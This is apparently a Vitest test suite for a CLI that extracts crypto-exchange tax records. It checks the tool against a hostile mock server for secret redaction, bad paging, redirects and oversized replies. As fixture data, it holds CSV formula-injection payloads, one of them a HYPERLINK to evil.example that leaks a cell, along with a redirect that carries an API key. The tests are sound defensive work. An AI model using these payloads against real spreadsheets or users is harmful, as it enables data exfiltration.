import { mkdtemp, readdir, readFile, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { openWarehouse } from '../../src/warehouse/warehouse.js';
import { runCliHere, runCliProcess, type CliResult } from '../helpers/cli.js';
import {
  ok,
  startHostile,
  type HostileHandler,
  type HostileRequest,
  type HostileServer,
} from '../helpers/hostile-server.js';
import { rows } from '../helpers/raw.js';
import { parseCsv } from '../helpers/tax-files.js';

let dir: string;
const servers: HostileServer[] = [];

beforeEach(async () => {
  dir = await mkdtemp(join(tmpdir(), 'lp-hostile-'));
});
afterEach(async () => {
  await Promise.all(servers.splice(0).map((s) => s.close()));
  await rm(dir, { recursive: true, force: true });
});

const SECRETS = {
  LEDGERPIPE_API_KEY: 'hostile-key-0123456789',
  LEDGERPIPE_API_SECRET: 'hostile-secret-abcdefghij',
  LEDGERPIPE_API_PASSPHRASE: 'HostilePass77',
};

/**
 * Runs the CLI against a server answering with `handlers`; the warehouse is `<dir>/w.duckdb`. In this process
 * (runCliHere) unless `run` says otherwise: the tests of what a process could print use one of its own.
 */
async function against(
  handlers: Readonly<Record<string, HostileHandler>>,
  args: readonly string[],
  run = runCliHere,
): Promise<CliResult & { server: HostileServer }> {
  const server = await startHostile(handlers);
  servers.push(server);
  const result = await run(
    [
      ...args,
      '--base-url',
      server.baseUrl,
      '--db',
      join(dir, 'w.duckdb'),
      '--out',
      join(dir, 'out'),
      '--rate-scale',
      '1000',
    ],
    {
      env: { ...process.env, ...SECRETS },
    },
  );
  return { ...result, server };
}

const lastLine = (text: string) => text.trimEnd().split('\n').at(-1);

/** Whether the window a request asks for holds `time`, so a handler answers a record only where it belongs. */
const holds = (r: HostileRequest, time: number) =>
  Number(r.query.get('startTime')) <= time && time <= Number(r.query.get('endTime'));

describe('a hostile server, through the CLI', () => {
  it('echoes the request headers in an error and a record: no secret is printed, logged, stored or shown by status', async () => {
    const echo: HostileHandler = (r) => ({
      status: 400,
      body: {
        code: '40017',
        msg: `bad request; headers were ${JSON.stringify({ key: r.headers['access-key'], passphrase: r.headers['access-passphrase'] })}`,
        data: null,
      },
    });
    const record: HostileHandler = (r) =>
      ok(
        r.query.has('idLessThan') || !holds(r, Date.UTC(2025, 0, 5))
          ? []
          : [
              {
                id: '7',
                coin: 'USDT',
                p2pTaxType: `buy ${String(r.headers['access-passphrase'])}`,
                balance: '1',
                ts: String(Date.UTC(2025, 0, 5)),
              },
            ],
      );
    const args = ['extract', '--streams', 'p2p_tax_records,withdrawals', '--from', '2025-01-01', '--to', '2025-02-01'];
    const handlers = { '/api/v2/spot/wallet/withdrawal-records': echo, '/api/v2/tax/p2p-record': record };
    const pretty = await against(handlers, args, runCliProcess);
    const json = await against(handlers, [...args, '--log-format', 'json'], runCliProcess);
    const status = await runCliProcess(['status', '--db', join(dir, 'w.duckdb')]);
    expect([pretty.status, json.status, status.status]).toEqual([4, 4, 0]);
    expect(lastLine(pretty.stderr)).toBe(
      'ledgerpipe: withdrawals could not be read and its range is a gap: the platform refused GET /api/v2/spot/wallet/withdrawal-records: HTTP 400, code 40017 "bad request; headers were {"key":"[redacted]","passphrase":"[redacted]"}"; this is likely a ledgerpipe bug; please report it with this line; run again to fill it',
    );
    // With --log-format json, every line is JSON, the last (the error) too.
    expect(
      json.stderr
        .trimEnd()
        .split('\n')
        .filter((line) => !line.startsWith('{')),
    ).toEqual([]);
    expect(JSON.parse(lastLine(json.stderr) ?? '')).toEqual({
      time: expect.stringMatching(/^\d{4}-\d\d-\d\dT/),
      level: 'error',
      msg: (lastLine(pretty.stderr) ?? '').slice('ledgerpipe: '.length),
      code: 'LP_INCOMPLETE',
      exit: 4,
    });
    const warehouse = await openWarehouse(join(dir, 'w.duckdb'));
    let stored: string;
    try {
      await warehouse.connection.run('CHECKPOINT');
      stored = JSON.stringify(
        await rows(
          warehouse,
          "SELECT (SELECT string_agg(payload::VARCHAR, ' ') FROM raw_records) AS payloads, (SELECT string_agg(message, ' ') FROM runs) AS messages",
        ),
      );
    } finally {
      await warehouse.close();
    }
    expect(stored).toContain('buy [redacted]');
    expect(stored).toContain('"key\\":\\"[redacted]');
    const file = await readFile(join(dir, 'w.duckdb'));
    for (const secret of [
      SECRETS.LEDGERPIPE_API_KEY,
      SECRETS.LEDGERPIPE_API_PASSPHRASE,
      SECRETS.LEDGERPIPE_API_SECRET,
    ]) {
      expect(
        [pretty.stderr, pretty.stdout, json.stderr, json.stdout, status.stdout, stored].filter((t) =>
          t.includes(secret),
        ),
      ).toEqual([]);
      expect(file.includes(secret)).toBe(false);
    }
  });

  it('sends one id twice in a page with different content: neither copy is loaded, both are in quarantine, exit 4', async () => {
    const record = (id: string, amount: string) => ({
      id,
      coin: 'USDT',
      p2pTaxType: 'buy',
      balance: amount,
      ts: String(Date.UTC(2025, 0, 5)),
    });
    const twice: HostileHandler = (r) =>
      ok(
        r.query.has('idLessThan') || !holds(r, Date.UTC(2025, 0, 5))
          ? []
          : [record('4', '1'), record('3', '2'), record('3', '200'), record('2', '5')],
      );
    const result = await against({ '/api/v2/tax/p2p-record': twice }, [
      'extract',
      '--streams',
      'p2p_tax_records',
      '--from',
      '2025-01-01',
      '--to',
      '2025-02-01',
    ]);
    expect(result.status).toBe(4);
    expect(lastLine(result.stderr)).toBe(
      'ledgerpipe: records that could not be loaded as they came were set aside in the quarantine table, each with its reason (p2p_tax_records: 1); see them with: ledgerpipe query "SELECT stream, key, error FROM quarantine"',
    );
    expect(result.stdout).toContain('default      p2p_tax_records            2        0        2         2');
    const warehouse = await openWarehouse(join(dir, 'w.duckdb'));
    try {
      expect(await rows(warehouse, 'SELECT key FROM raw_records ORDER BY key')).toEqual([{ key: '2' }, { key: '4' }]);
      expect(await rows(warehouse, 'SELECT key, error FROM quarantine')).toEqual([
        { key: '3', error: 'the page held 2 records with this id and different content; none was loaded' },
      ]);
    } finally {
      await warehouse.close();
    }
  });

  it('refuses one stream: the others are read and transformed, no file is written without --allow-gaps, exit 4', async () => {
    const refuse: HostileHandler = () => ({
      status: 400,
      body: { code: '40017', msg: 'Parameter verification failed', data: null },
    });
    const margin: HostileHandler = (r) =>
      ok(
        r.query.has('idLessThan') || r.query.get('marginType') !== 'crossed' || !holds(r, Date.UTC(2025, 0, 5))
          ? []
          : [
              {
                id: '1',
                coin: 'USDT',
                symbol: '',
                marginTaxType: 'borrow',
                amount: '5',
                fee: '0',
                total: '5',
                ts: String(Date.UTC(2025, 0, 5)),
              },
            ],
      );
    const handlers = { '/api/v2/p2p/advList': refuse, '/api/v2/tax/margin-record': margin };
    const args = [
      'run',
      'year-end',
      '--streams',
      'margin_records,p2p_advertisements',
      '--from',
      '2025-01-01',
      '--to',
      '2025-02-01',
    ];

    const held = await against(handlers, args);
    const reason =
      'p2p_advertisements could not be read and its range is a gap: the platform refused GET /api/v2/p2p/advList: HTTP 400, code 40017 "Parameter verification failed"; this is likely a ledgerpipe bug; please report it with this line; run again to fill it';
    const month = '2025-01-01T00:00:00.000Z .. 2025-02-01T00:00:00.000Z';
    const gap = `the warehouse does not cover the whole range: default p2p_advertisements ${month} (fill with: ledgerpipe extract --from 2025-01-01T00:00:00.000Z --to 2025-02-01T00:00:00.000Z --streams p2p_advertisements)`;
    expect([held.status, lastLine(held.stderr)]).toEqual([
      4,
      `ledgerpipe: ${reason}; ${gap}; no files were written (add --allow-gaps to write them with the gaps)`,
    ]);
    expect(await readdir(join(dir, 'out'))).toEqual([]);
    const warehouse = await openWarehouse(join(dir, 'w.duckdb'));
    try {
      expect(await rows(warehouse, 'SELECT source, source_id, amount::VARCHAR AS amount FROM ledger')).toEqual([
        { source: 'margin_records', source_id: '1', amount: '5.000000000000000000' },
      ]);
      expect(
        await rows(
          warehouse,
          "SELECT count(*) AS read FROM coverage WHERE stream = 'p2p_advertisements' AND status = 'done'",
        ),
      ).toEqual([{ read: '0' }]);
    } finally {
      await warehouse.close();
    }

    const status = await runCliHere(['status', '--db', join(dir, 'w.duckdb')]);
    expect(status.stdout).toContain(`    crossed covered: ${month}\n`);
    expect(status.stdout).toContain(
      `    sell:completed covered: nothing\n    sell:completed gaps: ${month} (run again over this range to fill them)\n`,
    );

    const written = await against(handlers, [...args, '--allow-gaps']);
    expect([written.status, lastLine(written.stderr)]).toEqual([4, `ledgerpipe: ${reason}; ${gap}`]);
    expect((await readdir(join(dir, 'out'))).filter((f) => f.startsWith('ledger'))).toEqual([
      'ledger.csv',
      'ledger.parquet',
      'ledger_valued.csv',
      'ledger_valued.parquet',
    ]);
  });

  it('answers more than 16 MiB: the answer is not read, the stream is a gap, exit 4', async () => {
    const huge: HostileHandler = () => ({ body: `{"code":"00000","msg":"${'x'.repeat(17 * 1024 * 1024)}","data":[]}` });
    const result = await against({ '/api/v2/spot/wallet/withdrawal-records': huge }, [
      'extract',
      '--streams',
      'withdrawals,margin_records',
      '--from',
      '2025-01-01',
      '--to',
      '2025-02-01',
    ]);
    expect([result.status, lastLine(result.stderr)]).toEqual([
      4,
      'ledgerpipe: withdrawals could not be read and its range is a gap: GET /api/v2/spot/wallet/withdrawal-records: the answer is larger than 16 MiB, the most ledgerpipe reads (a page of records is well under 1 MiB), so it was not read; the server is misbehaving; run again to fill it',
    ]);
    // Not asked again: the same request would bring the same answer.
    expect(result.server.requests.filter((r) => r.path === '/api/v2/spot/wallet/withdrawal-records')).toHaveLength(1);
    expect(result.stdout).toContain('default      margin_records             2        0        2         0');
  });

  it('pages on without end: the window stops at 50,000 records and stays unread, exit 4', async () => {
    // Every page is full and its last id is lower than the last: a cursor that always moves, never ends.
    const endless: HostileHandler = (r) => {
      if (r.query.get('marginType') !== 'crossed') return ok([]);
      const below = Number(r.query.get('idLessThan') ?? 1_000_000);
      return ok(
        Array.from({ length: 500 }, (_, i) => ({
          id: String(below - 1 - i),
          coin: 'USDT',
          symbol: '',
          marginTaxType: 'borrow',
          amount: '1',
          fee: '0',
          total: '1',
          ts: String(Date.UTC(2025, 0, 5)),
        })),
      );
    };
    const result = await against({ '/api/v2/tax/margin-record': endless }, [
      'extract',
      '--streams',
      'margin_records',
      '--from',
      '2025-01-01',
      '--to',
      '2025-02-01',
    ]);
    expect([result.status, lastLine(result.stderr)]).toEqual([
      4,
      'ledgerpipe: margin_records could not be read and its range is a gap: margin_records crossed: the window 2025-01-01T00:00:00.000Z .. 2025-02-01T00:00:00.000Z went on past 100 pages (50000 records, the most ledgerpipe reads from one window) without an end; its paging looks broken, so the window is left unread — report this; run again to fill it',
    ]);
    expect(result.server.requests.filter((r) => r.query.get('marginType') === 'crossed')).toHaveLength(100);
    const warehouse = await openWarehouse(join(dir, 'w.duckdb'));
    try {
      expect(
        await rows(
          warehouse,
          "SELECT partition, status FROM coverage WHERE stream = 'margin_records' ORDER BY partition",
        ),
      ).toEqual([{ partition: 'isolated', status: 'done' }]);
    } finally {
      await warehouse.close();
    }
  });

  it('redirects: not followed, and the line says to check --base-url, exit 2', async () => {
    const redirect: HostileHandler = (r) => ({
      status: 307,
      headers: { location: `https://elsewhere.example/time?key=${String(r.headers['access-key'])}` },
      body: '',
    });
    const result = await against({ '/api/v2/spot/wallet/withdrawal-records': redirect }, [
      'extract',
      '--streams',
      'withdrawals',
      '--from',
      '2025-01-01',
      '--to',
      '2025-02-01',
    ]);
    expect([result.status, lastLine(result.stderr), result.server.requests.map((r) => r.path)]).toEqual([
      2,
      `ledgerpipe: GET /api/v2/spot/wallet/withdrawal-records: ${result.server.baseUrl} answered HTTP 307, a redirect to https://elsewhere.example/time?key=[redacted], which ledgerpipe does not follow; check --base-url: give the API address the platform documents, with its scheme (https)`,
      // The account's kind is asked first (docs/unified-accounts.md: a classic key, refused with 40084), then its
      // opening (docs/history.md): this server's answer to it (an empty list) is none ledgerpipe can read, asked three
      // times, and the opening is left unknown.
      [
        '/api/v2/public/time',
        '/api/v3/account/settings',
        '/api/v2/spot/account/info',
        '/api/v2/spot/account/info',
        '/api/v2/spot/account/info',
        '/api/v2/spot/wallet/withdrawal-records',
      ],
    ]);
  });

  it('makes the transform fail its checks: runs and status say the run stopped at the transform', async () => {
    // One id in both margin types books one ledger entry twice: the transform's key check refuses it.
    const same: HostileHandler = (r) =>
      ok(
        r.query.has('idLessThan')
          ? []
          : [
              {
                id: '1',
                coin: 'USDT',
                symbol: '',
                marginTaxType: 'borrow',
                amount: '5',
                fee: '0',
                total: '5',
                ts: String(Date.UTC(2025, 0, 5)),
              },
            ],
      );
    const result = await against({ '/api/v2/tax/margin-record': same }, [
      'run',
      'year-end',
      '--streams',
      'margin_records',
      '--from',
      '2025-01-01',
      '--to',
      '2025-02-01',
    ]);
    expect(result.status).toBe(4);
    const status = await runCliHere(['status', '--db', join(dir, 'w.duckdb')]);
    expect(status.stdout).toMatch(
      /^ {2}last run: run year-end, started \S+, finished \S+: incomplete at transform \(exit 4\) the ledger failed its checks, so the previous one was kept: ledger keys are unique: entry margin_records:1:main of account default appears 2 times; report this with the warehouse$/m,
    );
  });

  it('is never asked anything when --out cannot be written: the run stops first', async () => {
    await writeFile(join(dir, 'file'), 'x');
    const server = await startHostile({});
    servers.push(server);
    const result = await runCliHere(
      [
        'run',
        'year-end',
        '--year',
        '2025',
        '--base-url',
        server.baseUrl,
        '--db',
        join(dir, 'w.duckdb'),
        '--out',
        join(dir, 'file', 'out'),
      ],
      {
        env: { ...process.env, ...SECRETS },
      },
    );
    expect([result.status, lastLine(result.stderr), server.requests.length]).toEqual([
      2,
      `ledgerpipe: cannot write to --out ${join(dir, 'file', 'out')} (ENOTDIR); choose a folder you can write to`,
      0,
    ]);
  });

  it('refuses a secret typed into a config file where the name of its variable belongs, without repeating it', async () => {
    const config = join(dir, 'config.json');
    await writeFile(
      config,
      JSON.stringify({
        accounts: [
          {
            name: 'main',
            baseUrl: 'https://example.com',
            env: { key: 'bg_3f2a9c1d7e', secret: 'MAIN_SECRET', passphrase: 'MAIN_PASS' },
          },
        ],
      }),
    );
    const result = await runCliProcess([
      'extract',
      '--year',
      '2025',
      '--config',
      config,
      '--db',
      join(dir, 'w.duckdb'),
    ]);
    expect([result.status, result.stdout, result.stderr]).toEqual([
      2,
      '',
      `ledgerpipe: config ${config}: accounts.0.env.key: does not look like the name of an environment variable (such as MAIN_API_KEY): put the name of the variable that holds the value here, not the value; fix that field\n`,
    ]);
    // A passphrase that looks like a name (upper case and digits) is taken for one, and never printed either.
    await writeFile(
      config,
      JSON.stringify({
        accounts: [
          {
            name: 'main',
            baseUrl: 'https://example.com',
            env: { key: 'MAIN_KEY', secret: 'MAIN_SECRET', passphrase: 'TRADER2024X' },
          },
        ],
      }),
    );
    const lookalike = await runCliProcess(
      ['extract', '--year', '2025', '--config', config, '--db', join(dir, 'w.duckdb')],
      { env: { ...process.env, MAIN_KEY: 'k'.repeat(12), MAIN_SECRET: 's'.repeat(12) } },
    );
    expect([lookalike.status, lookalike.stdout, lookalike.stderr]).toEqual([
      2,
      '',
      "ledgerpipe: missing credentials for account main: set the variables named by the config's accounts.0.env.passphrase in the environment (a read-only API key is enough)\n",
    ]);
  });

  it("refuses one account's key: the other account's run row says whose failure stopped it", async () => {
    const refused = await startHostile(
      Object.fromEntries(
        ['/api/v2/tax/p2p-record', '/api/v2/public/time'].map((path) => [
          path,
          (): { status: number; body: unknown } => ({
            status: 400,
            body: { code: '40009', msg: 'sign signature error', data: null },
          }),
        ]),
      ),
    );
    const fine = await startHostile({});
    servers.push(refused, fine);
    const config = join(dir, 'config.json');
    const env = (p: string) => ({ key: `${p}_KEY`, secret: `${p}_SECRET`, passphrase: `${p}_PASS` });
    await writeFile(
      config,
      JSON.stringify({
        accounts: [
          { name: 'alice', baseUrl: fine.baseUrl, env: env('ALICE') },
          { name: 'bob', baseUrl: refused.baseUrl, env: env('BOB') },
        ],
      }),
    );
    const secrets = Object.fromEntries(
      ['ALICE', 'BOB'].flatMap((p) =>
        ['KEY', 'SECRET', 'PASS'].map((k) => [`${p}_${k}`, `${p.toLowerCase()}-${k.toLowerCase()}-0123456789`]),
      ),
    );
    const result = await runCliHere(
      [
        'extract',
        '--streams',
        'p2p_tax_records',
        '--from',
        '2025-01-01',
        '--to',
        '2025-02-01',
        '--config',
        config,
        '--db',
        join(dir, 'w.duckdb'),
        '--rate-scale',
        '1000',
      ],
      {
        env: { ...process.env, ...secrets },
      },
    );
    expect(result.status).toBe(3);
    const warehouse = await openWarehouse(join(dir, 'w.duckdb'));
    try {
      const runs = await rows(warehouse, 'SELECT account, status, exit_code, message FROM runs ORDER BY account');
      expect(runs.map((r) => [r['account'], r['status'], r['exit_code']])).toEqual([
        ['alice', 'failed', '3'],
        ['bob', 'failed', '3'],
      ]);
      expect(runs[0]?.['message']).toBe(`stopped: account bob failed: ${runs[1]?.['message']}`);
      expect(runs[1]?.['message']).toMatch(/40009/);
    } finally {
      await warehouse.close();
    }
  });

  it("says the failure that came first when two accounts fail, not the first account's", async () => {
    // alice, first in the config, is refused late; bob at once. The run stops for bob's failure. Late is 3 s: each
    // account's questions before its streams (its opening, its kind) are retried with a random back-off of up to
    // about 750 ms a try, unscaled by --rate-scale, and with 400 ms bob's could end after alice's refusal.
    const refuse =
      (code: string, msg: string, delayMs: number): HostileHandler =>
      () => ({ status: 400, body: { code, msg, data: null }, delayMs });
    const late = await startHostile({ '/api/v2/tax/p2p-record': refuse('40009', 'sign signature error', 3000) });
    const early = await startHostile({ '/api/v2/tax/p2p-record': refuse('40006', 'Invalid ACCESS_KEY', 0) });
    const fine = await startHostile({});
    servers.push(late, early, fine);
    const config = join(dir, 'config.json');
    const env = (p: string) => ({ key: `${p}_KEY`, secret: `${p}_SECRET`, passphrase: `${p}_PASS` });
    const accounts = [
      { name: 'alice', baseUrl: late.baseUrl, env: env('ALICE') },
      { name: 'bob', baseUrl: early.baseUrl, env: env('BOB') },
      { name: 'carol', baseUrl: fine.baseUrl, env: env('CAROL') },
    ];
    await writeFile(config, JSON.stringify({ accounts }));
    const secrets = Object.fromEntries(
      ['ALICE', 'BOB', 'CAROL'].flatMap((p) =>
        ['KEY', 'SECRET', 'PASS'].map((k) => [`${p}_${k}`, `${p.toLowerCase()}-${k.toLowerCase()}-0123456789`]),
      ),
    );
    const result = await runCliHere(
      [
        'extract',
        '--streams',
        'p2p_tax_records',
        '--from',
        '2025-01-01',
        '--to',
        '2025-02-01',
        '--config',
        config,
        '--db',
        join(dir, 'w.duckdb'),
        '--rate-scale',
        '1000',
      ],
      {
        env: { ...process.env, ...secrets },
      },
    );
    expect(result.status).toBe(3);
    expect(result.stderr).toMatch(/40006/);
    expect(result.stderr).not.toMatch(/40009/);
    const warehouse = await openWarehouse(join(dir, 'w.duckdb'));
    try {
      const runs = await rows(warehouse, 'SELECT account, message FROM runs ORDER BY account');
      expect(runs.map((r) => r['account'])).toEqual(['alice', 'bob', 'carol']);
      expect(runs[0]?.['message']).toMatch(/40009/);
      expect(runs[2]?.['message']).toBe(`stopped: account bob failed: ${runs[1]?.['message']}`);
    } finally {
      await warehouse.close();
    }
  });

  it('answers with times in seconds: nothing is loaded or marked read, the records outside are counted, exit 4', async () => {
    const seconds: HostileHandler = (r) =>
      ok(
        r.query.has('idLessThan')
          ? []
          : [
              {
                id: '9',
                coin: 'USDT',
                symbol: '',
                marginTaxType: 'borrow',
                amount: '5',
                fee: '0',
                total: '5',
                ts: String(Math.floor(Date.UTC(2025, 0, 10) / 1000)),
              },
            ],
      );
    const result = await against({ '/api/v2/tax/margin-record': seconds }, [
      'extract',
      '--streams',
      'margin_records',
      '--from',
      '2025-01-01',
      '--to',
      '2025-02-01',
    ]);
    expect(result.status).toBe(4);
    expect(lastLine(result.stderr)).toBe(
      'ledgerpipe: windows returned records of which none lay inside them (margin_records: 2): the record times may be misread, so those windows stay unread; see the warnings above and report this',
    );
    expect(result.stderr).toContain(
      'margin_records crossed: the window 2025-01-01T00:00:00.000Z .. 2025-02-01T00:00:00.000Z returned 1 record and none lay inside it (the first at 1736467200); the window stays unread',
    );
    expect(result.stdout).toContain(
      'default      margin_records             0        0        2         0        2         2     0        0',
    );
    const warehouse = await openWarehouse(join(dir, 'w.duckdb'));
    try {
      expect(await rows(warehouse, "SELECT count(*) AS n FROM raw_records WHERE stream = 'margin_records'")).toEqual([
        { n: '0' },
      ]);
      expect(
        await rows(
          warehouse,
          "SELECT partition, status FROM coverage WHERE stream = 'margin_records' ORDER BY partition",
        ),
      ).toEqual([
        { partition: 'crossed', status: 'open' },
        { partition: 'isolated', status: 'open' },
      ]);
      expect(await rows(warehouse, 'SELECT status, exit_code, message FROM runs')).toEqual([
        { status: 'incomplete', exit_code: '4', message: '2 windows returned records none of which lay inside them' },
      ]);
    } finally {
      await warehouse.close();
    }

    // Through a pipeline that exports: the unread windows are a gap, so no file is written.
    const run = await against({ '/api/v2/tax/margin-record': seconds }, [
      'run',
      'year-end',
      '--streams',
      'margin_records',
      '--from',
      '2025-01-01',
      '--to',
      '2025-02-01',
    ]);
    expect([run.status, lastLine(run.stderr)]).toEqual([
      4,
      'ledgerpipe: windows returned records of which none lay inside them (margin_records: 2): the record times may be misread, so those windows stay unread; see the warnings above and report this; the warehouse does not cover the whole range: default margin_records 2025-01-01T00:00:00.000Z .. 2025-02-01T00:00:00.000Z (fill with: ledgerpipe extract --from 2025-01-01T00:00:00.000Z --to 2025-02-01T00:00:00.000Z --streams margin_records); no files were written (add --allow-gaps to write them with the gaps)',
    ]);
    expect(await readdir(join(dir, 'out'))).toEqual([]);
  });

  it('sends formulas in a withdrawal: every CSV a spreadsheet opens holds them as text, amounts keep their minus', async () => {
    const link = '=HYPERLINK("http://evil.example/?leak="&A1,"click")';
    const at = Date.UTC(2025, 0, 7);
    const withdrawal: HostileHandler = (r) =>
      ok(
        r.query.has('idLessThan') || !holds(r, at)
          ? []
          : [
              {
                orderId: '31',
                tradeId: link,
                coin: 'USDT',
                clientOid: '+cmd|calc',
                type: 'withdraw',
                dest: 'on_chain',
                size: '12.5',
                fee: '-0.5',
                status: 'success',
                fromAddress: '',
                toAddress: '@SUM(1+1)',
                chain: '-erc20',
                confirm: '12',
                tag: '\tx',
                cTime: String(at),
                uTime: String(at),
              },
            ],
      );
    const result = await against({ '/api/v2/spot/wallet/withdrawal-records': withdrawal }, [
      'run',
      'year-end',
      '--streams',
      'withdrawals',
      '--from',
      '2025-01-01',
      '--to',
      '2025-02-01',
      '--format',
      'csv,koinly,cointracking',
    ]);
    expect(result.status).toBe(0);
    const table = async (file: string) => parseCsv(await readFile(join(dir, 'out', file), 'utf8'));
    const [header, ...records] = await table('withdrawals.csv');
    const cell = (name: string) => records[0]?.[header?.indexOf(name) ?? -1];
    expect(['trade_id', 'client_oid', 'to_address', 'chain', 'tag', 'size', 'fee'].map(cell)).toEqual([
      `'${link}`,
      "'+cmd|calc",
      "'@SUM(1+1)",
      "'-erc20",
      "'\tx",
      '12.5',
      '-0.5',
    ]);
    const ledger = await table('ledger.csv');
    const ledgerColumn = (name: string) => ledger.slice(1).map((row) => row[ledger[0]?.indexOf(name) ?? -1]);
    expect([ledgerColumn('reference'), ledgerColumn('amount')]).toEqual([
      [`'${link}`, `'${link}`],
      ['-0.5', '-12.5'],
    ]);
    const koinly = await table('koinly.csv');
    expect(koinly.slice(1).map((row) => row[koinly[0]?.indexOf('TxHash') ?? -1])).toEqual([`'${link}`]);
    // No cell of the CoinTracking file starts a formula: a minus only before a number.
    expect((await table('cointracking.csv')).flat().filter((c) => /^([=+@\t\r]|-(?![\d.]))/.test(c))).toEqual([]);
  });
});

describe("amounts at the schema's maximum", () => {
  it('adds up without overflow in the checks, the summary and status, exactly', async () => {
    const max = '99999999999999999999.999999999999999999';
    const margin: HostileHandler = (r) =>
      ok(
        r.query.has('idLessThan') || r.query.get('marginType') !== 'crossed' || !holds(r, Date.UTC(2025, 0, 5))
          ? []
          : [
              {
                id: '2',
                coin: 'USDT',
                symbol: '',
                marginTaxType: 'borrow',
                amount: max,
                fee: '0',
                total: max,
                ts: String(Date.UTC(2025, 0, 5)),
              },
              {
                id: '1',
                coin: 'USDT',
                symbol: '',
                marginTaxType: 'borrow',
                amount: max,
                fee: '0',
                total: max,
                ts: String(Date.UTC(2025, 0, 5)),
              },
            ],
      );
    const result = await against({ '/api/v2/tax/margin-record': margin }, [
      'run',
      'year-end',
      '--streams',
      'margin_records',
      '--from',
      '2025-01-01',
      '--to',
      '2025-02-01',
      '--verbose',
    ]);
    const total = '199999999999999999999.999999999999999998';
    // The second borrow's total says the balance did not grow: a running-balance break (exit 4), found exactly
    // though the balance it expects is past DECIMAL(38,18).
    expect(result.status, result.stderr).toBe(4);
    expect(result.stdout).toContain(
      `  break: default margin_records crossed USDT at 2025-01-05T00:00:00.000Z, record 2: expected beyond DECIMAL(38,18), reported ${max}, difference -${max} (`,
    );
    // The ledger's totals per asset and category (--verbose).
    expect(result.stdout).toContain(`default      USDT      loan_borrow                 2  ${total}\n`);
    expect(result.stdout).toContain(`  2025 ledger movements: USDT ${total}\n`);
    const ledger = parseCsv(await readFile(join(dir, 'out', 'ledger.csv'), 'utf8'));
    expect(ledger.slice(1).map((r) => r[ledger[0]?.indexOf('amount') ?? -1])).toEqual([max, max]);
  });
});
